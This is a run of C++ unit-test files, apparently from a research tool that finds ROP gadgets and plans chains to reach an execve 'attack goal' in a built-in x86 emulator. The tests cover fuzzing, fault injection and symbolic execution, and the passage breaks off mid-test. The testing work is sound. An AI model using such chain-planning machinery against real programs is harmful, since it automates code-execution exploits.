  EXPECT_LT(pool.size(), full_ex.extract({}).size());
}

TEST(GovernorDegradation, ExprNodeBudgetCutsPathsNotTheProcess) {
  Assembler a = classic_rop();
  solver::Context ctx;
  auto img = make_image(a);

  GovernorOptions gopts;
  gopts.max_expr_nodes = 8;
  Governor gov(gopts);
  ctx.set_governor(&gov);  // the extractor's context draws the node budget
  Extractor ex(ctx, img);
  ExtractOptions opts;
  opts.governor = &gov;
  auto pool = ex.extract(opts);
  const auto& st = ex.stats();
  EXPECT_EQ(st.offsets_scanned + st.offsets_skipped, img.code().size());
  EXPECT_EQ(st.status.code(), StatusCode::BudgetExhausted);
  EXPECT_GT(st.paths_cut + st.offsets_skipped, 0u);
  ctx.set_governor(nullptr);
}

// ---------------------------------------------------------------------------
// Decoder / lifter fuzzing: arbitrary bytes and truncated tails must never
// crash or hang, and extraction accounting must stay exact.
// ---------------------------------------------------------------------------

TEST(DecoderFuzz, RandomBuffersAndTruncatedTailsNeverCrash) {
  for (const u64 seed : {1u, 2u, 3u, 4u}) {
    Rng rng(seed);
    std::vector<u8> buf(4096);
    for (u8& b : buf) b = static_cast<u8>(rng.next());
    const std::span<const u8> all(buf);
    for (size_t off = 0; off < buf.size(); ++off) {
      const auto span = all.subspan(off);
      const auto inst = x86::decode(span, image::kCodeBase + off);
      if (!inst) continue;
      // A decoded instruction never claims bytes it was not given.
      EXPECT_GT(inst->len, 0u);
      EXPECT_LE(static_cast<size_t>(inst->len), span.size());
      EXPECT_LE(inst->len, 15u);  // x86 hard limit
      (void)lift::lift(*inst);    // the lifter must accept whatever decodes
    }
    // Truncated tails: every prefix of a decodable stream either decodes
    // within bounds or cleanly returns nullopt.
    for (size_t len = 0; len <= 16; ++len) {
      const auto inst = x86::decode(all.first(len), image::kCodeBase);
      if (inst) EXPECT_LE(static_cast<size_t>(inst->len), len);
    }
  }
}

TEST(DecoderFuzz, ExtractionOverRandomBytesReconciles) {
  Rng rng(0xfeedULL);
  std::vector<u8> buf(1024);
  for (u8& b : buf) b = static_cast<u8>(rng.next());
  image::Image img(buf, {}, image::kCodeBase);
  solver::Context ctx;
  Extractor ex(ctx, img);
  auto pool = ex.extract({});
  const auto& st = ex.stats();
  EXPECT_EQ(st.offsets_scanned, buf.size());
  EXPECT_EQ(st.offsets_skipped, 0u);
  EXPECT_EQ(st.gadgets, pool.size());
  EXPECT_GT(st.decode_failures, 0u);  // random bytes cannot all decode
  EXPECT_TRUE(st.status.ok());
}

TEST(DecoderFuzz, ForcedDecodeFailureAccountsEveryOffset) {
  Assembler a = classic_rop();
  solver::Context ctx;
  auto img = make_image(a);

  fault::ScopedSpec scoped("decode=1");
  Extractor ex(ctx, img);
  auto pool = ex.extract({});
  EXPECT_TRUE(pool.empty());
  const auto& st = ex.stats();
  EXPECT_EQ(st.offsets_scanned, img.code().size());
  // Every offset's first decode was forced to fail and counted.
  EXPECT_EQ(st.decode_failures, st.offsets_scanned);
}

// ---------------------------------------------------------------------------
// Pipeline under fault: the full four-stage pipeline over an obfuscated
// corpus program, three fault seeds, aggressive governor. Must not crash or
// hang; every chain that survives must re-validate with faults disabled.
// ---------------------------------------------------------------------------

const image::Image& corpus_image() {
  static const image::Image img = [] {
    auto prog = minic::compile_source(corpus::benchmark().front().source);
    obf::obfuscate(prog, obf::Options::llvm_obf(5));
    return codegen::compile(prog);
  }();
  return img;
}

TEST(PipelineUnderFault, DegradesWithoutCrashingAndChainsStayValid) {
  const image::Image& img = corpus_image();
  for (const u64 seed : {11ull, 22ull, 33ull}) {
    fault::Spec spec =
        fault::parse_spec("decode=0.002,solver=0.05,emu=0.0005,alloc=0.0002")
            .value();
    spec.seed = seed;
    fault::ScopedSpec scoped(spec);

    core::PipelineOptions popts;
    popts.governor.deadline_seconds = 30.0;
    popts.governor.max_solver_checks = 3'000;
    popts.governor.max_sym_steps = 3'000'000;
    popts.governor.max_expr_nodes = 6'000'000;
    popts.plan.time_budget_seconds = 3.0;
    popts.plan.max_expansions = 400;
    popts.plan.restarts = 2;
    popts.plan.max_chains = 2;

    core::GadgetPlanner gp(img, popts);
    // Degradation is a Status, never a crash: whatever was cut is recorded
    // as a known (non-Internal) code.
    EXPECT_NE(gp.report().extract_status.code(), StatusCode::Internal);
    EXPECT_NE(gp.report().subsume_status.code(), StatusCode::Internal);
    const auto& es = gp.extract_stats();
    EXPECT_EQ(es.offsets_scanned + es.offsets_skipped, img.code().size());

    auto chains = gp.find_chains(Goal::execve());
    fault::disable();
    for (const auto& c : chains) {
      EXPECT_TRUE(payload::validate(img, c, Goal::execve(),
                                    image::kStackTop - 0x2000,
                                    0xabcdef ^ seed))
          << "fault seed " << seed;
    }
  }
}

TEST(PipelineUnderFault, TinyDeadlineStillBuildsAPipeline) {
  const image::Image& img = corpus_image();
  core::PipelineOptions popts;
  popts.governor.deadline_seconds = 1e-4;
  core::GadgetPlanner gp(img, popts);
  const auto& es = gp.extract_stats();
  EXPECT_EQ(es.offsets_scanned + es.offsets_skipped, img.code().size());
  EXPECT_GT(es.offsets_skipped, 0u);
  EXPECT_EQ(gp.report().extract_status.code(), StatusCode::DeadlineExceeded);
  // The (possibly empty) library is still usable; planning returns fast
  // with best-so-far (= no) chains instead of hanging.
  auto chains = gp.find_chains(Goal::execve());
  EXPECT_TRUE(chains.empty());
}

TEST(StageSupervisor, BackoffSleepIsExcludedFromStageSeconds) {
  // Regression for the Table VII double-count bug: supervisor backoff used
  // to be billed as stage time, making every retried stage look slow by
  // exactly the sleep schedule. Force every extract attempt to fail
  // (alloc=1 makes the first expression intern throw) so the supervisor
  // runs its full retry ladder, then check the sleep landed in
  // backoff_seconds and NOT in extract_seconds.
  const image::Image& img = corpus_image();

  core::PipelineOptions popts;
  popts.store_dir.clear();  // no checkpoints: every attempt must run
  popts.supervise.max_retries = 2;
  popts.supervise.backoff_initial_ms = 100;
  popts.supervise.backoff_multiplier = 4;  // sleeps: 100ms + 400ms

  // The Session (and its solver context) must exist before the fault is
  // armed: the context constructor interns constants and would trip the
  // alloc fault itself.
  core::Session session(core::Engine::shared(), img, popts);

  const auto t0 = std::chrono::steady_clock::now();
  {
    fault::ScopedSpec scoped("alloc=1");
    (void)session.extract();
  }
  const double wall =
      std::chrono::duration<double>(std::chrono::steady_clock::now() - t0)
          .count();

  const auto& rep = session.report();
  EXPECT_EQ(rep.extract_runs.attempts, 3u);
  EXPECT_EQ(rep.extract_runs.retries, 2u);
  EXPECT_EQ(rep.extract_status.code(), StatusCode::FaultInjected);

  // The two scheduled sleeps total 0.5s (scheduling can only add).
  EXPECT_GE(rep.extract_runs.backoff_seconds, 0.45);
  EXPECT_LE(rep.extract_runs.backoff_seconds, wall);
  // Stage time excludes the sleep: wall covers the attempts AND the
  // >= 0.5s of scheduled sleeps, so stage seconds must sit at least the
  // sleep schedule below wall. (Comparing stage seconds against the
  // backoff directly would assume the failing attempts are near-instant,
  // which doesn't hold on a loaded machine where a full test suite is
  // competing for cores.)
  EXPECT_LT(rep.extract_seconds, wall - 0.40);
  EXPECT_LE(rep.extract_seconds + rep.extract_runs.backoff_seconds,
            wall + 0.05);
}

}  // namespace
}  // namespace gp
