#include <gtest/gtest.h>

#include "cfg/cfg.hpp"

namespace gp::cfg {
namespace {

Program minimal() {
  Program p;
  p.functions.emplace_back();
  auto& f = p.functions[0];
  f.name = "main";
  const Temp t = f.new_temp();
  const BlockId b = f.new_block();
  f.entry = b;
  f.blocks[b].instrs.push_back(Instr::constant(t, 7));
  f.blocks[b].term = Terminator::ret(t);
  p.main_index = 0;
  return p;
}

TEST(CfgVerify, AcceptsMinimalProgram) {
  auto p = minimal();
  EXPECT_NO_THROW(verify(p));
}

TEST(CfgVerify, RejectsMissingMain) {
  auto p = minimal();
  p.main_index = -1;
  EXPECT_THROW(verify(p), Error);
  p.main_index = 5;
  EXPECT_THROW(verify(p), Error);
}

TEST(CfgVerify, RejectsMainWithParams) {
  auto p = minimal();
  p.functions[0].num_params = 1;
  EXPECT_THROW(verify(p), Error);
}

TEST(CfgVerify, RejectsTempOutOfRange) {
  auto p = minimal();
  p.functions[0].blocks[0].instrs.push_back(
      Instr::constant(99, 1));  // temp 99 not allocated
  EXPECT_THROW(verify(p), Error);
  auto q = minimal();
  q.functions[0].blocks[0].instrs.push_back(Instr::constant(-1, 1));
  EXPECT_THROW(verify(q), Error);
}

TEST(CfgVerify, RejectsBadBlockTargets) {
  auto p = minimal();
  p.functions[0].blocks[0].term = Terminator::jump(42);
  EXPECT_THROW(verify(p), Error);

  auto q = minimal();
  q.functions[0].blocks[0].term =
      Terminator::branch(0, 0, 42);
  EXPECT_THROW(verify(q), Error);

  auto r = minimal();
  r.functions[0].blocks[0].term = Terminator::make_switch(0, {0, 42});
  EXPECT_THROW(verify(r), Error);

  auto s = minimal();
  s.functions[0].blocks[0].term = Terminator::make_switch(0, {});
  EXPECT_THROW(verify(s), Error);
}

TEST(CfgVerify, RejectsBadCallArity) {
  auto p = minimal();
  auto& f = p.functions[0];
  // Call main itself (0 params) with one arg.
  f.blocks[0].instrs.push_back(
      {.op = Opcode::Call, .dst = 0, .imm = 0, .args = {0}});
  EXPECT_THROW(verify(p), Error);
}

TEST(CfgVerify, RejectsFrameAndGlobalOutOfRange) {
  auto p = minimal();
  p.functions[0].blocks[0].instrs.push_back(
      {.op = Opcode::FrameAddr, .dst = 0, .imm = 4096});
  EXPECT_THROW(verify(p), Error);

  auto q = minimal();
  q.functions[0].blocks[0].instrs.push_back(
      {.op = Opcode::GlobalAddr, .dst = 0, .imm = 8});
  EXPECT_THROW(verify(q), Error);  // data section is empty
}

TEST(CfgProgram, DataHelpers) {
  Program p;
  const i64 a = p.add_data({1, 2, 3});
  const i64 b = p.add_data_string("hi");
  const i64 c = p.add_data_zeros(5);
  EXPECT_EQ(a, 0);
  EXPECT_EQ(b, 3);
  EXPECT_EQ(c, 6);  // "hi\0" is 3 bytes
  EXPECT_EQ(p.data.size(), 11u);
  EXPECT_EQ(p.data[3], 'h');
  EXPECT_EQ(p.data[5], 0);
  EXPECT_EQ(p.data[10], 0);
}

TEST(CfgProgram, FindFunction) {
  auto p = minimal();
  EXPECT_EQ(p.find_function("main"), 0);
  EXPECT_EQ(p.find_function("ghost"), -1);
}

TEST(CfgPrint, DumpsEveryTerminatorKind) {
  Program p;
  p.functions.emplace_back();
  auto& f = p.functions[0];
  f.name = "main";
  const Temp t = f.new_temp();
  const BlockId b0 = f.new_block(), b1 = f.new_block(), b2 = f.new_block(),
                b3 = f.new_block();
  f.entry = b0;
  f.blocks[b0].instrs.push_back(Instr::constant(t, 1));
  f.blocks[b0].term = Terminator::branch(t, b1, b2);
  f.blocks[b1].term = Terminator::jump(b3);
  f.blocks[b2].term = Terminator::make_switch(t, {b1, b3});
  f.blocks[b3].term = Terminator::ret(t);
  p.main_index = 0;
  const std::string s = to_string(p);
  EXPECT_NE(s.find("branch"), std::string::npos);
  EXPECT_NE(s.find("jump"), std::string::npos);
  EXPECT_NE(s.find("switch"), std::string::npos);
  EXPECT_NE(s.find("ret"), std::string::npos);
}

TEST(CfgOpcode, Predicates) {
  EXPECT_TRUE(is_binop(Opcode::Add));
  EXPECT_TRUE(is_binop(Opcode::CmpLe));
  EXPECT_FALSE(is_binop(Opcode::Not));
  EXPECT_FALSE(is_binop(Opcode::Load));
  EXPECT_TRUE(is_cmp(Opcode::CmpEq));
  EXPECT_FALSE(is_cmp(Opcode::Add));
  EXPECT_STREQ(opcode_name(Opcode::FrameAddr), "frameaddr");
}

}  // namespace
}  // namespace gp::cfg
