#include <gtest/gtest.h>

#include "emu/emu.hpp"
#include "lift/lift.hpp"
#include "support/rng.hpp"
#include "support/str.hpp"
#include "sym/exec.hpp"
#include "x86/decoder.hpp"
#include "x86/encoder.hpp"

namespace gp::sym {
namespace {

using solver::Context;
using solver::ExprRef;
using x86::Assembler;
using x86::Cond;
using x86::MemRef;
using x86::Mnemonic;
using x86::Reg;

/// Symbolically execute assembled straight-line code from the initial state.
struct SymRun {
  Context ctx;
  Executor exec{ctx};
  State st;
  Flow last;

  explicit SymRun(const std::vector<u8>& code) : st(exec.initial_state()) {
    auto insts = x86::decode_run(code, image::kCodeBase, 128);
    for (const auto& inst : insts) {
      last = exec.step(st, lift::lift(inst));
    }
  }
  ExprRef reg(Reg r) { return st.regs[static_cast<int>(r)]; }
};

TEST(SymExec, PopProducesStackVariable) {
  Assembler a;
  a.pop(Reg::RDI);
  a.ret();
  SymRun run(a.finish());
  // rdi := stk_0; ret target := stk_8; rsp := rsp0 + 16.
  EXPECT_EQ(run.ctx.to_string(run.reg(Reg::RDI)), "stk_0");
  EXPECT_EQ(run.ctx.to_string(run.last.target_expr), "stk_8");
  EXPECT_TRUE(run.last.is_ret);
  EXPECT_EQ(run.reg(Reg::RSP),
            run.ctx.add(run.ctx.var("rsp0", 64), run.ctx.constant(16, 64)));
}

TEST(SymExec, RegisterDataflow) {
  Assembler a;
  a.mov(Reg::RAX, Reg::RBX);
  a.alu_imm(Mnemonic::ADD, Reg::RAX, 5);
  a.ret();
  SymRun run(a.finish());
  EXPECT_EQ(run.reg(Reg::RAX),
            run.ctx.add(run.ctx.var("rbx0", 64), run.ctx.constant(5, 64)));
}

TEST(SymExec, PushThenPopResolvesFromWriteHistory) {
  Assembler a;
  a.push(Reg::RCX);
  a.pop(Reg::RDX);
  a.ret();
  SymRun run(a.finish());
  EXPECT_EQ(run.reg(Reg::RDX), run.ctx.var("rcx0", 64));
  // Net rsp change: -8 +8 +8 (ret) = +8.
  EXPECT_EQ(run.reg(Reg::RSP),
            run.ctx.add(run.ctx.var("rsp0", 64), run.ctx.constant(8, 64)));
}

TEST(SymExec, ConditionalJumpExposesFlagCondition) {
  Assembler a;
  a.alu(Mnemonic::CMP, Reg::RDX, Reg::RBX);
  auto inst = x86::decode(a.finish(), image::kCodeBase);
  ASSERT_TRUE(inst);

  Context ctx;
  Executor ex(ctx);
  State st = ex.initial_state();
  ex.step(st, lift::lift(*inst));

  // After cmp rdx, rbx: ZF == (rdx0 - rbx0 == 0), i.e. rdx0 == rbx0.
  const ExprRef zf = st.flags[static_cast<int>(ir::Flag::ZF)];
  const ExprRef expect =
      ctx.eq(ctx.sub(ctx.var("rdx0", 64), ctx.var("rbx0", 64)),
             ctx.constant(0, 64));
  EXPECT_EQ(zf, expect);
}

TEST(SymExec, PointerReadThroughRegisterIsTracked) {
  // A load through an attacker-derivable pointer (initial rdi) becomes a
  // tracked indirect read — the paper's POINTER-typed constraint.
  Assembler a;
  a.mov_load(Reg::RAX, MemRef{.base = Reg::RDI});
  a.ret();
  SymRun run(a.finish());
  EXPECT_TRUE(run.ctx.is_var(run.reg(Reg::RAX)));
  EXPECT_TRUE(starts_with(run.ctx.var_name(run.reg(Reg::RAX)),
                          std::string("ind")));
  ASSERT_EQ(run.st.ind_reads.size(), 1u);
  EXPECT_EQ(run.st.ind_reads[0].addr, run.ctx.var("rdi0", 64));
  EXPECT_EQ(run.st.ind_reads[0].var, run.reg(Reg::RAX));
}

TEST(SymExec, UnderivableMemoryReadIsUnconstrained) {
  // Address depends on memory contents (double indirection through an
  // unknown): falls back to a plain unconstrained variable.
  Assembler a;
  a.mov_load(Reg::RAX, MemRef{.base = Reg::RDI});
  a.mov_load(Reg::RBX, MemRef{.base = Reg::RAX});
  a.mov_load(Reg::RCX, MemRef{.base = Reg::RBX});
  a.ret();
  SymRun run(a.finish());
  // rbx came from an ind-read (derivable chain), so the final load is still
  // derivable; truly unknown bases only arise from "mem" vars, which this
  // chain never produces. Verify the chain stayed derivable:
  EXPECT_TRUE(starts_with(run.ctx.var_name(run.reg(Reg::RCX)),
                          std::string("ind")));
}

TEST(SymExec, StoreLoadSameAddressForwards) {
  Assembler a;
  a.mov_store(MemRef{.base = Reg::RDI, .disp = 8}, Reg::RBX);
  a.mov_load(Reg::RAX, MemRef{.base = Reg::RDI, .disp = 8});
  a.ret();
  SymRun run(a.finish());
  EXPECT_EQ(run.reg(Reg::RAX), run.ctx.var("rbx0", 64));
}

TEST(SymExec, NarrowStackReadSlicesPayloadSlot) {
  Assembler a;
  a.mov_load(Reg::RAX, MemRef{.base = Reg::RSP, .disp = 4}, 32);
  a.ret();
  SymRun run(a.finish());
  // 32-bit load at rsp+4 = bits [63:32] of payload slot stk_0, zero-extended.
  const ExprRef slot = run.ctx.var("stk_0", 64);
  EXPECT_EQ(run.reg(Reg::RAX),
            run.ctx.zext(run.ctx.extract(slot, 32, 32), 64));
}

TEST(SplitBaseOffset, Forms) {
  Context ctx;
  const ExprRef x = ctx.var("x", 64);
  auto c = split_base_offset(ctx, ctx.constant(0x1000, 64));
  ASSERT_TRUE(c);
  EXPECT_EQ(c->base, solver::kNoExpr);
  EXPECT_EQ(c->offset, 0x1000);

  auto v = split_base_offset(ctx, x);
  ASSERT_TRUE(v);
  EXPECT_EQ(v->base, x);
  EXPECT_EQ(v->offset, 0);

  auto s = split_base_offset(ctx, ctx.add(x, ctx.constant(-16, 64)));
  ASSERT_TRUE(s);
  EXPECT_EQ(s->base, x);
  EXPECT_EQ(s->offset, -16);
}

TEST(StackVarNames, RoundTrip) {
  EXPECT_EQ(stack_var(0), "stk_0");
  EXPECT_EQ(stack_var(24), "stk_24");
  EXPECT_EQ(stack_var(-8), "stk_m8");
  EXPECT_EQ(parse_stack_var("stk_24").value(), 24);
  EXPECT_EQ(parse_stack_var("stk_m8").value(), -8);
  EXPECT_FALSE(parse_stack_var("mem3").has_value());
}

// ---------------------------------------------------------------------------
// Differential property test: symbolic execution evaluated on concrete
// inputs must match the concrete emulator, instruction family by instruction
// family, over randomized straight-line programs.
// ---------------------------------------------------------------------------

class DifferentialTest : public ::testing::TestWithParam<u64> {};

TEST_P(DifferentialTest, SymbolicMatchesConcrete) {
  Rng rng(GetParam());
  // Registers we mutate freely (leave RSP managed).
  const Reg pool[] = {Reg::RAX, Reg::RBX, Reg::RCX, Reg::RDX,
                      Reg::RSI, Reg::RDI, Reg::R8,  Reg::R9,
                      Reg::R10, Reg::R11, Reg::R12, Reg::R13};
  auto rnd_reg = [&] { return pool[rng.below(std::size(pool))]; };

  for (int iter = 0; iter < 40; ++iter) {
    Assembler a;
    const int n = 3 + static_cast<int>(rng.below(10));
    int pushes = 0;
    for (int i = 0; i < n; ++i) {
      switch (rng.below(13)) {
        case 0: a.mov(rnd_reg(), rnd_reg(), rng.chance(0.5) ? 64 : 32); break;
        case 1: a.mov_imm(rnd_reg(), static_cast<i64>(rng.next())); break;
        case 2:
          a.alu(static_cast<Mnemonic>(
                    static_cast<int>(Mnemonic::ADD) + rng.below(5)),
                rnd_reg(), rnd_reg(), rng.chance(0.5) ? 64 : 32);
          break;
        case 3:
          a.alu_imm(Mnemonic::ADD, rnd_reg(),
                    static_cast<i32>(rng.next()), 64);
          break;
        case 4:
          a.push(rnd_reg());
          ++pushes;
          break;
        case 5:
          a.unary(static_cast<Mnemonic>(
                      static_cast<int>(Mnemonic::NOT) + rng.below(4)),
                  rnd_reg(), 64);
          break;
        case 6:
          a.shift_imm(rng.chance(0.5) ? Mnemonic::SHL : Mnemonic::SAR,
                      rnd_reg(), static_cast<u8>(1 + rng.below(63)), 64);
          break;
        case 7: a.imul(rnd_reg(), rnd_reg(), 64); break;
        case 8:
          a.lea(rnd_reg(), MemRef{.base = rnd_reg(), .index = rnd_reg(),
                                  .scale = static_cast<u8>(1 << rng.below(4)),
                                  .disp = static_cast<i32>(rng.next())});
          break;
        case 9:
          a.mov_load(rnd_reg(),
                     MemRef{.base = Reg::RSP,
                            .disp = static_cast<i32>(8 * rng.below(8))});
          break;
        case 10:
          a.cmov(static_cast<Cond>(rng.below(16)), rnd_reg(), rnd_reg(),
                 rng.chance(0.5) ? 64 : 32);
          break;
        case 11:
          a.movzx_load(rnd_reg(),
                       MemRef{.base = Reg::RSP,
                              .disp = static_cast<i32>(8 * rng.below(8))},
                       rng.chance(0.5) ? 8 : 16);
          break;
        case 12:
          a.movsx_load(rnd_reg(),
                       MemRef{.base = Reg::RSP,
                              .disp = static_cast<i32>(8 * rng.below(8))},
                       rng.chance(0.5) ? 8 : 16);
          break;
      }
    }
    a.alu(Mnemonic::CMP, rnd_reg(), rnd_reg());  // exercise flags at the end
    // Rebalance the stack so the final ret consumes the exit sentinel.
    if (pushes > 0) a.alu_imm(Mnemonic::ADD, Reg::RSP, 8 * pushes);
    a.ret();
    const auto code = a.finish();

    // Concrete run.
    image::Image img(code, {}, image::kCodeBase);
    emu::Emulator emu(img);
    std::unordered_map<int, u64> init;
    for (const Reg r : pool) {
      const u64 v = rng.next();
      emu.set_reg(r, v);
      init[static_cast<int>(r)] = v;
    }
    const u64 rsp0 = emu.reg(Reg::RSP);
    // Random payload on the stack (above and below rsp for push room).
    std::vector<u64> stack_content(16);
    for (size_t i = 0; i < stack_content.size(); ++i) {
      stack_content[i] = rng.next();
      emu.memory().write(rsp0 + 8 * i, stack_content[i], 8);
    }
    // The emulator's exit sentinel lives at [rsp0]; keep it.
    emu.memory().write(rsp0, image::kExitAddress, 8);
    stack_content[0] = image::kExitAddress;
    auto result = emu.run(1000);
    ASSERT_EQ(result.reason, emu::StopReason::Exit) << iter;

    // Symbolic run over the same instructions.
    Context ctx;
    Executor ex(ctx);
    State st = ex.initial_state();
    for (const auto& inst : x86::decode_run(code, image::kCodeBase, 64)) {
      ex.step(st, lift::lift(inst));
    }

    // Environment: initial registers, flags (all 0 at reset), stack slots.
    std::unordered_map<ExprRef, u64> env;
    for (const Reg r : pool)
      env[ctx.var(initial_reg_var(r), 64)] = init[static_cast<int>(r)];
    env[ctx.var("rsp0", 64)] = rsp0;
    env[ctx.var("rbp0", 64)] = 0;
    for (size_t i = 0; i < stack_content.size(); ++i)
      env[ctx.var(stack_var(static_cast<i64>(8 * i)), 64)] =
          stack_content[i];

    for (const Reg r : pool) {
      const ExprRef e = st.regs[static_cast<int>(r)];
      EXPECT_EQ(ctx.eval(e, env), emu.reg(r))
          << "iter " << iter << " reg " << x86::reg_name(r) << " = "
          << ctx.to_string(e);
    }
    for (int f = 0; f < ir::kNumFlags; ++f) {
      const ExprRef e = st.flags[f];
      EXPECT_EQ(ctx.eval(e, env),
                static_cast<u64>(emu.flag(static_cast<ir::Flag>(f))))
          << "iter " << iter << " flag "
          << ir::flag_name(static_cast<ir::Flag>(f));
    }
  }
}

INSTANTIATE_TEST_SUITE_P(Seeds, DifferentialTest,
                         ::testing::Values(1, 2, 3, 4, 5, 101, 202, 303));

}  // namespace
}  // namespace gp::sym
