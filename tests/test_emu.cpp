#include <gtest/gtest.h>

#include "emu/emu.hpp"
#include "image/image.hpp"
#include "support/rng.hpp"
#include "x86/encoder.hpp"

namespace gp::emu {
namespace {

using x86::Assembler;
using x86::Cond;
using x86::MemRef;
using x86::Mnemonic;
using x86::Reg;

image::Image make_image(Assembler& a) {
  return image::Image(a.finish(), {}, image::kCodeBase);
}

TEST(Emulator, MovAndArithmetic) {
  Assembler a;
  a.mov_imm(Reg::RAX, 40);
  a.mov_imm(Reg::RBX, 2);
  a.alu(Mnemonic::ADD, Reg::RAX, Reg::RBX);
  a.ret();
  auto img = make_image(a);
  Emulator e(img);
  auto r = e.run();
  EXPECT_EQ(r.reason, StopReason::Exit);
  EXPECT_EQ(e.reg(Reg::RAX), 42u);
  EXPECT_EQ(r.exit_status, 42u);  // ret-to-exit reports rax
}

TEST(Emulator, ThirtyTwoBitWritesZeroUpperHalf) {
  Assembler a;
  a.mov_imm(Reg::RAX, -1);  // all ones
  a.alu(Mnemonic::XOR, Reg::RAX, Reg::RAX, 32);  // xor eax, eax
  a.ret();
  auto img = make_image(a);
  Emulator e(img);
  e.run();
  EXPECT_EQ(e.reg(Reg::RAX), 0u);

  Assembler b;
  b.mov_imm(Reg::RCX, -1);
  b.emit({.mnemonic = Mnemonic::MOV, .dst = x86::Operand::r(Reg::RCX),
          .src = x86::Operand::i(5), .size = 32});  // mov ecx, 5
  b.ret();
  auto img2 = make_image(b);
  Emulator e2(img2);
  e2.run();
  EXPECT_EQ(e2.reg(Reg::RCX), 5u);  // upper 32 bits cleared
}

TEST(Emulator, PushPopRoundTrip) {
  Assembler a;
  a.mov_imm(Reg::RAX, 0x1122334455667788LL);
  a.push(Reg::RAX);
  a.pop(Reg::RBX);
  a.ret();
  auto img = make_image(a);
  Emulator e(img);
  const u64 rsp0 = e.reg(Reg::RSP);
  e.run();
  EXPECT_EQ(e.reg(Reg::RBX), 0x1122334455667788ULL);
  EXPECT_EQ(e.reg(Reg::RSP), rsp0 + 8);  // ret consumed the exit address
}

TEST(Emulator, FlagsAndConditionalJump) {
  // if (rdi == 7) rax = 1 else rax = 2
  Assembler a;
  auto eq = a.new_label();
  auto end = a.new_label();
  a.alu_imm(Mnemonic::CMP, Reg::RDI, 7);
  a.jcc(Cond::E, eq);
  a.mov_imm(Reg::RAX, 2);
  a.jmp(end);
  a.bind(eq);
  a.mov_imm(Reg::RAX, 1);
  a.bind(end);
  a.ret();
  auto img = make_image(a);

  Emulator e1(img);
  e1.set_reg(Reg::RDI, 7);
  e1.run();
  EXPECT_EQ(e1.reg(Reg::RAX), 1u);

  Emulator e2(img);
  e2.set_reg(Reg::RDI, 8);
  e2.run();
  EXPECT_EQ(e2.reg(Reg::RAX), 2u);
}

TEST(Emulator, SignedComparisons) {
  // rax = (rdi < rsi signed) ? 1 : 0, with negative rdi.
  Assembler a;
  auto lt = a.new_label();
  auto end = a.new_label();
  a.alu(Mnemonic::CMP, Reg::RDI, Reg::RSI);
  a.jcc(Cond::L, lt);
  a.mov_imm(Reg::RAX, 0);
  a.jmp(end);
  a.bind(lt);
  a.mov_imm(Reg::RAX, 1);
  a.bind(end);
  a.ret();
  auto img = make_image(a);

  Emulator e(img);
  e.set_reg(Reg::RDI, static_cast<u64>(-5));
  e.set_reg(Reg::RSI, 3);
  e.run();
  EXPECT_EQ(e.reg(Reg::RAX), 1u);  // -5 < 3 signed

  Emulator e2(img);
  e2.set_reg(Reg::RDI, static_cast<u64>(-5));
  e2.set_reg(Reg::RSI, static_cast<u64>(-6));
  e2.run();
  EXPECT_EQ(e2.reg(Reg::RAX), 0u);
}

TEST(Emulator, LoopComputesFactorial) {
  // rax = 5! via a dec loop.
  Assembler a;
  a.mov_imm(Reg::RAX, 1);
  a.mov_imm(Reg::RCX, 5);
  auto top = a.new_label();
  a.bind(top);
  a.imul(Reg::RAX, Reg::RCX);
  a.unary(Mnemonic::DEC, Reg::RCX);
  a.jcc(Cond::NE, top);
  a.ret();
  auto img = make_image(a);
  Emulator e(img);
  auto r = e.run();
  EXPECT_EQ(r.reason, StopReason::Exit);
  EXPECT_EQ(e.reg(Reg::RAX), 120u);
}

TEST(Emulator, MemoryLoadStore) {
  Assembler a;
  a.mov_imm(Reg::RAX, 0xabcdef);
  a.mov_store(MemRef{.base = Reg::RSP, .disp = -16}, Reg::RAX);
  a.mov_load(Reg::RBX, MemRef{.base = Reg::RSP, .disp = -16});
  a.ret();
  auto img = make_image(a);
  Emulator e(img);
  e.run();
  EXPECT_EQ(e.reg(Reg::RBX), 0xabcdefu);
}

TEST(Emulator, CallAndReturn) {
  Assembler a;
  auto fn = a.new_label();
  a.call(fn);
  a.alu_imm(Mnemonic::ADD, Reg::RAX, 1);
  a.ret();
  a.bind(fn);
  a.mov_imm(Reg::RAX, 10);
  a.ret();
  auto img = make_image(a);
  Emulator e(img);
  auto r = e.run();
  EXPECT_EQ(r.reason, StopReason::Exit);
  EXPECT_EQ(e.reg(Reg::RAX), 11u);
}

TEST(Emulator, IndirectJumpThroughRegister) {
  Assembler a;
  // movabs rax, <target>; jmp rax; int3; target: mov rbx, 9; ret
  const u64 target = image::kCodeBase + 10 + 2 + 1;  // movabs+jmp+int3
  a.emit({.mnemonic = Mnemonic::MOVABS, .dst = x86::Operand::r(Reg::RAX),
          .src = x86::Operand::i(static_cast<i64>(target)), .size = 64});
  a.jmp_reg(Reg::RAX);
  a.int3();
  a.mov_imm(Reg::RBX, 9);
  a.ret();
  auto img = make_image(a);
  Emulator e(img);
  auto r = e.run();
  EXPECT_EQ(r.reason, StopReason::Exit);
  EXPECT_EQ(e.reg(Reg::RBX), 9u);
}

TEST(Emulator, WriteSyscallCapturesOutput) {
  // Write 3 bytes from the data section.
  std::vector<u8> data{'h', 'i', '!'};
  Assembler a;
  a.mov_imm(Reg::RAX, 1);
  a.mov_imm(Reg::RDI, 1);
  a.mov_imm(Reg::RSI, static_cast<i64>(image::kDataBase));
  a.mov_imm(Reg::RDX, 3);
  a.syscall();
  a.mov_imm(Reg::RAX, 60);
  a.mov_imm(Reg::RDI, 0);
  a.syscall();
  image::Image img(a.finish(), data, image::kCodeBase);
  Emulator e(img);
  auto r = e.run();
  EXPECT_EQ(r.reason, StopReason::Exit);
  EXPECT_EQ(r.exit_status, 0u);
  EXPECT_EQ(e.output_str(), "hi!");
}

TEST(Emulator, ExecveSyscallStopsAsAttackGoal) {
  Assembler a;
  a.mov_imm(Reg::RAX, 59);
  a.syscall();
  auto img = make_image(a);
  Emulator e(img);
  auto r = e.run();
  EXPECT_EQ(r.reason, StopReason::Syscall);
  EXPECT_EQ(r.syscall_no, 59u);
}

TEST(Emulator, BadFetchOutsideCode) {
  Assembler a;
  a.mov_imm(Reg::RAX, 0x123456);
  a.jmp_reg(Reg::RAX);
  auto img = make_image(a);
  Emulator e(img);
  auto r = e.run();
  EXPECT_EQ(r.reason, StopReason::BadFetch);
  EXPECT_EQ(r.rip, 0x123456u);
}

TEST(Emulator, MaxStepsOnInfiniteLoop) {
  Assembler a;
  auto top = a.new_label();
  a.bind(top);
  a.jmp(top);
  auto img = make_image(a);
  Emulator e(img);
  auto r = e.run(1000);
